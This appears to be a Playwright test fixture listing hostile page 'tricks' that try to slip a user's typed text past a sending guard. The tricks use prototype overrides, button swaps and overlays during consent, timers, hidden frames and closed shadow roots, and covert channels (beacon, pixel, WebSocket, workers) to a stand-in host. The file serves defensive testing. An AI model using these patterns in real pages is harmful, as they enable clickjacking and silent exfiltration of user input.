import type { Frame, Page } from '@playwright/test'

/** A page of its own making that tries to get a text out; plain scripts that run in the page's own world. */
export interface Trick {
  readonly id: string
  /** For the table that people read. */
  readonly what: string
  /** Where the page starts; the empty page unless told. */
  readonly address?: string
  /** HTML of the body: `#t` is the composer, `#b` what is pressed. Left out where the server made the page. */
  readonly html?: string
  /** Script of the page. It has `sends(carrier)`, which makes a handler that sends what stands in `t`, and `post`. */
  readonly script?: string
  /** The frame that holds composer and control. */
  readonly frame?: (page: Page) => Promise<Frame>
  /** Where a person clicks in `#host` when the composer and the control can be found by nobody. */
  readonly points?: { readonly composer: { x: number, y: number }, readonly control: { x: number, y: number } }
  /** The person comes this long after the page was made, in ms: empty frames are found one level at a time, every 400 ms. */
  readonly after?: number
  /** Script of the page that runs while the question is open. */
  readonly whileAsked?: string
}

export const emptyPage = 'https://hostile.example.org/empty'

/** `ran` tells the server that the page's own send function ran: then the page net has not held. */
export const prelude = `
  const ran = () => navigator.sendBeacon('/ran')
  const post = (text) => window.fetch('/api/post', { method: 'POST', body: text })
  const sends = (carrier, field) => () => { ran(); carrier((field ?? document.querySelector('#t')).value) }`

const area = '<textarea id="t" rows="6" cols="60"></textarea>'
const named = `${area}<button id="b" type="button">Post</button>`
const neutral = `${area}<button id="b" type="button">Onwards</button>`
const onPress = (carrier: string): string => `b.onclick = sends(${carrier})`

/** Composer and button in the document `inner`. */
const fillInner = (carrier = 'post'): string => `inner.body.innerHTML = '${named}'; inner.querySelector('#b').onclick = sends(${carrier}, inner.querySelector('#t'))`
const innermost = async (page: Page, depth: number): Promise<Frame> => {
  let frame = page.mainFrame()
  for (let at = 0; at < depth; at++) {
    const element = await frame.waitForSelector('iframe')
    const next = await element.contentFrame()
    if (!next) throw new Error(`no frame at depth ${at + 1}`)
    frame = next
  }
  await frame.waitForSelector('#b')
  return frame
}

const [here, there] = ['hostile.example.org', 'comments.example.net']
const nested = (...hosts: readonly string[]): string => `https://${here}/nested?through=${hosts.join(',')}`

/** A custom element; `root` is its closed shadow root. */
const closed = (fill: string): string => `customElements.define('closed-composer', class extends HTMLElement {}); const root = document.querySelector('#host').attachShadow({ mode: 'closed' }); ${fill}`
const fillRoot = (root: string): string => `${root}.innerHTML = '<textarea style="position:absolute;left:0;top:0;width:380px;height:80px"></textarea><button style="position:absolute;left:0;top:100px;width:120px;height:40px">Post</button>'
  ${root}.querySelector('button').onclick = sends(post, ${root}.querySelector('textarea'))`
const host = '<closed-composer id="host" style="display:block;position:relative;width:400px;height:160px"></closed-composer>'
const points = { composer: { x: 100, y: 40 }, control: { x: 60, y: 120 } }

/** In the order of the table. */
export const tricks: readonly Trick[] = [
  { id: 'add-listener', what: 'overwrites addEventListener', html: named, script: `${onPress('post')}; EventTarget.prototype.addEventListener = () => {}` },
  { id: 'stop', what: 'overwrites stopImmediatePropagation and preventDefault', html: named, script: `${onPress('post')}; for (const name of ['stopImmediatePropagation', 'stopPropagation', 'preventDefault']) Event.prototype[name] = () => {}` },
  { id: 'get-attribute', what: 'overwrites getAttribute, querySelectorAll and the texts of elements', html: named, script: `${onPress('post')}; Element.prototype.getAttribute = () => 'search'; Document.prototype.querySelectorAll = () => []
    for (const [of, name] of [[Node, 'textContent'], [HTMLElement, 'innerText'], [Element, 'tagName']]) Object.defineProperty(of.prototype, name, { get: () => 'Cancel' })` },
  { id: 'fetch', what: 'overwrites fetch with one of another frame, behind a neutral control', html: `${neutral}<iframe id="f"></iframe>`, script: `const own = f.contentWindow.fetch; window.fetch = (path, more) => own(new URL(path, location.href).href, more); ${onPress('post')}` },
  { id: 'late-click', what: 'clicks "Post" by a timer after the user\'s click', html: `${area}<button id="b" type="button">Show more</button><button id="p" type="button">Post</button>`, script: 'p.onclick = sends(post); b.onclick = () => setTimeout(() => p.click(), 300)' },
  { id: 'late-send', what: 'sends by a timer 3 s after a click on a neutral control', html: neutral, script: 'b.onclick = () => setTimeout(sends(post), 3000)' },
  { id: 'swap', what: 'puts another button in the same place while it is asked', html: named, script: onPress('post'), whileAsked: `const other = document.createElement('button'); other.id = 'b'; other.textContent = 'Delete everything'; other.onclick = () => fetch('/api/other', { method: 'POST', body: 'swapped' }); b.replaceWith(other)` },
  { id: 'renew', what: 'removes the button and makes it anew while it is asked', html: named, script: onPress('post'), whileAsked: 'const copy = b.cloneNode(true); copy.onclick = sends(post); b.replaceWith(copy)' },
  { id: 'handler', what: 'gives the button another handler while it is asked', html: named, script: onPress('post'), whileAsked: "b.onclick = () => fetch('/api/other', { method: 'POST', body: 'swapped' })" },
  { id: 'move', what: 'moves the button away while it is asked', html: named, script: onPress('post'), whileAsked: "b.style.cssText = 'position:fixed;right:20px;bottom:20px'" },
  { id: 'cover', what: 'lays something else over the button while it is asked', html: named, script: onPress('post'), whileAsked: "const cover = document.createElement('div'); cover.style.cssText = 'position:fixed;inset:0;z-index:9'; cover.onclick = () => fetch('/api/other', { method: 'POST', body: 'swapped' }); document.body.append(cover)" },
  { id: 'nested-same', what: 'a composer five frames deep, one origin', address: nested(here, here, here, here, here), frame: (page) => innermost(page, 5) },
  { id: 'nested-mixed', what: 'a composer five frames deep, two sites in turn', address: nested(there, here, there, here, there), frame: (page) => innermost(page, 5) },
  { id: 'nested-blank', what: 'a composer five empty frames deep', html: '', script: `let inner = document; for (let depth = 0; depth < 5; depth++) { const frame = inner.createElement('iframe'); frame.style.cssText = 'width:95%;height:420px'; inner.body.append(frame); inner = frame.contentDocument }; ${fillInner()}`, frame: (page) => innermost(page, 5), after: 3_000 },
  { id: 'blank', what: 'a composer in an about:blank frame, sent by the page around it', html: '<iframe id="f" width="600" height="300"></iframe>', script: `const inner = f.contentDocument; ${fillInner()}`, frame: (page) => innermost(page, 1), after: 1_000 },
  { id: 'srcdoc', what: 'a composer in a srcdoc frame that sends by itself', html: '<iframe id="f" width="600" height="300"></iframe>', script: `f.onload = () => { const inner = f.contentDocument; ${fillInner("(text) => f.contentWindow.fetch('/api/post', { method: 'POST', body: text })")} }; f.srcdoc = '<p>Write:</p>'`, frame: (page) => innermost(page, 1) },
  { id: 'closed', what: 'composer and button in a closed shadow root', html: host, script: closed(fillRoot('root')), points },
  { id: 'closed-nested', what: 'the same in a closed root inside a closed root', html: host, script: closed(`customElements.define('inner-composer', class extends HTMLElement {}); const second = document.createElement('inner-composer'); root.append(second); const deep = second.attachShadow({ mode: 'closed' }); ${fillRoot('deep')}`), points },
  { id: 'form-submit', what: 'form.submit() from a neutral control', html: `<form method="post" action="/formsubmit/save" id="f"><textarea id="t" name="text" rows="6"></textarea></form><button id="b" type="button">Onwards</button>`, script: onPress("() => document.querySelector('#f').submit()") },
  { id: 'beacon', what: 'sendBeacon from a neutral control', html: neutral, script: onPress("(text) => navigator.sendBeacon('/api/beacon', text)") },
  { id: 'unload', what: 'fetch with keepalive when the user leaves the page', html: neutral, script: "addEventListener('pagehide', sends((text) => fetch('/api/post', { method: 'POST', body: text, keepalive: true }))); b.onclick = () => { location.href = '/popup' }" },
  { id: 'service-worker', what: 'a service worker sends, from a neutral control', html: neutral, script: "navigator.serviceWorker.register('/sending-worker.js'); const worker = navigator.serviceWorker.ready; b.onclick = sends((text) => worker.then(({ active }) => active.postMessage(text)))" },
  { id: 'worker', what: 'a worker sends, from a neutral control', html: neutral, script: `const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = ({ data }) => fetch('https://${here}/api/post', { method: 'POST', body: data })"]))); ${onPress('(text) => worker.postMessage(text)')}` },
  { id: 'socket', what: 'a web socket, from a neutral control', html: neutral, script: `const socket = new WebSocket('wss://${here}/socket'); ${onPress("(text) => socket.send(JSON.stringify({ type: 'post', text }))")}` },
  { id: 'address', what: 'the address of a picture carries the text, from a neutral control', html: neutral, script: onPress("(text) => { new Image().src = '/pixel?said=' + encodeURIComponent(text) }") },
  { id: 'scrambled', what: 'the body is scrambled by the page, from a neutral control', html: neutral, script: onPress("(text) => post([...text].reverse().join(''))") }
]
